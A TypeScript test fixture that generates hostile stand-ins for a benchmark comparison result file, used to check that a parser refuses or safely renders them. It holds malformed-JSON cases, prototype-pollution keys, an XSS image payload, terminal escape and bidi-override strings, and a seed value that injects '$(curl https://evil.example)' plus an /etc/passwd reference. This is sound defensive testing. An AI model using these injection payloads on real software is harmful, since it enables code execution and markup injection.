import type { Comparison } from '../../src/result/comparison.ts'
import type { Failure } from '../../src/result/shared-schema.ts'
import type { Outcome } from './hostile-artifacts.ts'
import { hostileCounts, hostileNumbers } from './hostile-figures.ts'
import { aBenchmark, aRecord } from './results.ts'

/** A file that a stranger wrote. */
export interface Edited {
  readonly what: string
  readonly content: string | Uint8Array
  readonly outcome: Outcome
  /** Not packed, where packing would be noticed first. */
  readonly stored?: boolean
}

/** What a stranger would have us print. */
export const STRANGER =
  '@octocat #1 <img src=x onerror=alert(1)> [x](https://evil.example) `|` \u001b[31m \u202e ::error::x'

const HARMLESS: Outcome = { kind: 'harmless' }
const NOT_JSON = refused(/not JSON/)
const AT_NAME = /benchmarks\[\d\]\.name/

function refused(words: RegExp): Outcome {
  return { kind: 'refused', words }
}

/**
 * Files in place of an honest comparison, which has at least one benchmark with points. Add one to the group that it
 * belongs to.
 */
export function hostileResults(honest: Comparison): readonly Edited[] {
  return [
    ...texts(honest),
    ...hostileNumbers(honest),
    ...hostileCounts(honest),
    ...hostileKeys(honest),
    ...hostileWords(honest),
  ]
}

/** What is no JSON, or no text. */
function texts(honest: Comparison): Edited[] {
  const text = JSON.stringify(honest)
  const bytes = Buffer.from(text)
  const notUtf8 = refused(/not UTF-8/)
  return [
    { what: 'empty', content: '', outcome: NOT_JSON },
    { what: 'a page of HTML', content: '<!doctype html><title>502</title>', outcome: NOT_JSON },
    { what: 'cut off', content: text.slice(0, -9), outcome: NOT_JSON },
    { what: 'two results', content: `${text}${text}`, outcome: refused(/after the end/) },
    { what: 'a comment', content: `${text} // looks fine`, outcome: refused(/after the end/) },
    { what: 'a comma too many', content: text.replace(/}$/, ',}'), outcome: NOT_JSON },
    { what: 'a byte order mark', content: `\ufeff${text}`, outcome: NOT_JSON },
    { what: 'UTF-16', content: Buffer.from(`\ufeff${text}`, 'utf16le'), outcome: notUtf8 },
    { what: 'no UTF-8', content: Buffer.concat([bytes, Buffer.from([0xc0, 0x80])]), outcome: notUtf8 },
    { what: 'a zero byte', content: `${text}\0`, outcome: refused(/after the end/) },
    { what: 'nothing but null', content: 'null', outcome: refused(/no result/) },
    {
      what: 'a text of its own',
      content: JSON.stringify(text.slice(0, 1000)),
      outcome: refused(/no result/),
    },
    { what: 'four MB of space', content: `${' '.repeat(4e6)}${text}`, outcome: HARMLESS, stored: true },
    {
      what: 'a control character as it is',
      content: text.replace('"seed":"', '"seed":"\u001b'),
      outcome: NOT_JSON,
    },
  ]
}

function hostileKeys(honest: Comparison): Edited[] {
  const text = JSON.stringify(honest)
  const adding = (what: string, keys: string, outcome: Outcome = HARMLESS): Edited => ({
    what,
    content: text.replace('{', `{${keys},`),
    outcome,
  })
  const twice = refused(/a key twice/)
  return [
    adding('a key twice', '"kind":"comparison"', twice),
    adding('a key twice, once in disguise', '"\\u006bind":"comparison"', twice),
    adding('an unknown key twice', '"x":{"y":1,"y":1}', twice),
    adding('a prototype', '"__proto__":{"verdict":"regression","polluted":true}'),
    adding('a constructor', '"constructor":{"prototype":{"polluted":true}}'),
    adding('a toJSON', '"toJSON":1,"toString":"x","then":{}'),
    adding(
      'another pull request, its verdict and a text',
      `"pullRequest":1,"number":1,"repository":"octo/other","comment":${JSON.stringify(STRANGER)},"conclusion":"success"`,
    ),
    adding('a key of 100 kB', `"${'k'.repeat(100_000)}":1`, refused(/text of more than 64/)),
    adding('a text of 100 kB', `"x":"${'<'.repeat(100_000)}"`, refused(/text of more than 2000/)),
    {
      what: 'a runtime that is none',
      content: JSON.stringify({ ...honest, host: { ...honest.host, runtimes: { '@octocat': '1' } } }),
      outcome: refused(/host\.runtimes/),
    },
    { what: 'a record', content: JSON.stringify(aRecord()), outcome: refused(/a record where a comparison/) },
    {
      what: 'a kind of its own',
      content: JSON.stringify({ ...honest, kind: STRANGER }),
      outcome: refused(/no result/),
    },
    {
      what: 'a schema that is none',
      content: JSON.stringify({ ...honest, schema: '1' }),
      outcome: refused(/no result/),
    },
    { what: 'schema 0', content: JSON.stringify({ ...honest, schema: 0 }), outcome: refused(/no result/) },
    {
      what: 'a schema to come',
      content: JSON.stringify({ schema: 2, kind: 'comparison' }),
      outcome: { kind: 'newer' },
    },
  ]
}

function hostileWords(honest: Comparison): Edited[] {
  const [first] = honest.benchmarks
  const named = (what: string, name: string, words: RegExp): Edited => ({
    what,
    content: JSON.stringify({ ...honest, benchmarks: [{ ...first, name }] }),
    outcome: refused(words),
  })
  const changed = (what: string, changes: object, outcome: Outcome = HARMLESS): Edited => ({
    what,
    content: JSON.stringify({ ...honest, ...changes }),
    outcome,
  })
  const output = [STRANGER, '\ud800', '`'.repeat(300)]
  const failure: Failure = { phase: 'start', reason: STRANGER, output }
  const failed = aBenchmark({ name: 'failed', verdict: 'failed', ...failure })
  const host = { ...honest.host, cpu: STRANGER, os: STRANGER, kernel: 'www.evil.example', arch: '\ud800' }
  const stored = { kind: 'stored', commit: honest.base, at: honest.at, behind: 0, sameHost: true, cpus: 4 }
  return [
    named('a name of markup', '<b>bold</b>', AT_NAME),
    named('a name that mentions', '@octocat', AT_NAME),
    named('a name with a line break', 'a\nb', AT_NAME),
    named('a name with an escape', 'a\u001b[31m', AT_NAME),
    named('a name written backwards', 'a\u202eb', AT_NAME),
    named('a name with half a character', 'a\ud800', AT_NAME),
    named('a name of 65 letters', 'a'.repeat(65), AT_NAME),
    named('a name of 100 kB', 'a'.repeat(100_000), /text of more than 2000/),
    named('no name', '', AT_NAME),
    changed('a host that speaks', { host: { ...host, runtimes: { go: STRANGER } } }),
    changed('a seed that is a command', { seed: '$(curl https://evil.example) ; --config=/etc/passwd' }),
    changed('a failure that speaks', { benchmarks: [first, failed] }),
    changed('a failure of base that speaks', {
      benchmarks: [
        { ...first, evidence: { kind: 'none', baseFailure: failure } },
        { ...first, name: 'other', evidence: { ...stored, cpu: STRANGER, baseFailure: failure } },
      ],
    }),
    changed('a verdict of its own', {
      verdict: 'improvement',
      benchmarks: [{ ...first, verdict: 'improved' }],
    }),
    changed('an overload whose words its numbers do not bear out', {
      benchmarks: [first, overloaded(honest)],
    }),
    changed('a verdict that is none', { verdict: STRANGER }, refused(/at verdict/)),
    changed('a second of a thousand digits', { at: `2026-03-02T10:00:00.${'1'.repeat(1000)}Z` }),
    changed('a time that is none', { at: STRANGER }, refused(/at at/)),
    changed('a head that is no commit', { head: 'refs/pull/1/head' }, refused(/at head/)),
    changed('a base that is no commit', { base: `${honest.base}\n` }, refused(/at base/)),
    changed(
      'a warning of its own',
      { benchmarks: [{ ...first, warnings: [{ kind: 'note', text: STRANGER }] }] },
      refused(/warnings/),
    ),
    changed('a known warning with a text beside', {
      benchmarks: [{ ...first, warnings: [{ kind: 'unpinned', text: STRANGER }] }],
    }),
  ]
}

/** Goodput alike in both arms, of which the file says that head collapsed, also in the words of an older format. */
function overloaded({ benchmarks: [first] }: Comparison): object {
  const numbers = { share: 0.99, recovery: 0 }
  const rounds = Array.from({ length: 20 }, (_, round) => (round % 2) / 100)
  const [findings, overloads] = [
    rounds.map(() => 'worse'),
    rounds.map(() => ({ base: numbers, head: { finding: 'collapses', ...numbers } })),
  ]
  const overload = {
    base: { finding: 'holds', ...numbers },
    head: { finding: 'collapses', ...numbers },
  }
  const duel = { rounds, findings, overloads, quads: 160, void: 0 }
  const points = [{ cores: 1, verdict: 'regressed', regressed: 'finding', overload, duel }]
  const { connections: _, ...rest } = first!
  return { ...rest, name: 'overloaded', measure: { kind: 'goodput', deadline: 100 }, points }
}
